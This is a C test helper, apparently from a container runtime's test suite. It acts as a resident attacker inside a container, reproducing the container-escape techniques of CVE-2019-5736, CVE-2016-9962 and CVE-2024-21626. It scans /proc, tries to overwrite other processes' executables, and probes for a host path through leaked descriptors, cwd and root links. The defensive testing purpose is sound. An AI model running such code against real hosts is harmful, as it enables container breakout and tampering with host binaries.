/* What a resident attacker does while others come into its container (CVE-2019-5736, CVE-2016-9962, CVE-2024-21626): looks at every
 * process there is, again and again; keeps each program file that is not its own root's, and tries to write to it for as long
 * as it lives; and climbs out through each descriptor that it can see. Prints each thing it finds once.
 *     lurk CANARY      a path of the host that is not in the container
 * Ends when /tmp/enough is there, after one more round. Static; compiled by tests/root/exec.rs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static struct {
    int fd;
    dev_t dev;
    ino_t ino;
} kept[64];
static int number;
static long denied, rounds;

static void write_to(int fd, const char *how) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int flags[] = {O_WRONLY | O_APPEND, O_RDWR, O_WRONLY | O_TRUNC};
    for (int i = 0; i < 3; i++) {
        int to = open(self, flags[i] | O_CLOEXEC);
        if (to >= 0) {
            printf("WRITABLE %s\n", how);
            if (write(to, "evil", 4) == 4)
                printf("WRITTEN %s\n", how);
            close(to);
        } else if (errno != EROFS && errno != ETXTBSY && errno != EPERM && errno != EACCES)
            printf("odd %s\n", strerrorname_np(errno));
    }
}

int main(int argc, char **argv) {
    struct stat own, self, at;
    char path[PATH_MAX];
    (void)argc;
    setvbuf(stdout, NULL, _IOLBF, 0);
    stat("/bin/busybox", &own);
    stat("/proc/self/exe", &self);
    printf("up\n");
    for (int last = 0;; rounds++) {
        last = access("/tmp/enough", F_OK) == 0;
        DIR *dir = opendir("/proc");
        for (struct dirent *e; dir && (e = readdir(dir));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0 && (errno == EACCES || errno == EPERM))
                denied++;
            if (fd >= 0 && fstat(fd, &at) == 0 && !(at.st_dev == own.st_dev && at.st_ino == own.st_ino) &&
                !(at.st_dev == self.st_dev && at.st_ino == self.st_ino)) {
                int known = 0;
                for (int i = 0; i < number; i++)
                    known |= kept[i].dev == at.st_dev && kept[i].ino == at.st_ino;
                if (!known && number < 64) {
                    printf("seen %s %lld\n", S_ISREG(at.st_mode) ? "file" : "other", (long long)at.st_size);
                    kept[number].fd = fd, kept[number].dev = at.st_dev, kept[number++].ino = at.st_ino;
                    fd = -1;
                }
            }
            if (fd >= 0)
                close(fd);
            for (int n = 0; n < 24; n++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../../../..%s", pid, n, argv[1]);
                if (access(path, F_OK) == 0)
                    printf("ESCAPED by descriptor %d\n", n);
            }
            snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../../..%s", pid, argv[1]);
            if (access(path, F_OK) == 0)
                printf("ESCAPED by cwd\n");
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[1]);
            if (access(path, F_OK) == 0)
                printf("ESCAPED by root\n");
        }
        if (dir)
            closedir(dir);
        for (int i = 0; i < number; i++)
            write_to(kept[i].fd, "exe");
        if (last)
            break;
    }
    printf("rounds %s denied %s\n", rounds > 100 ? "many" : "few", denied ? "some" : "none");
    return 0;
}
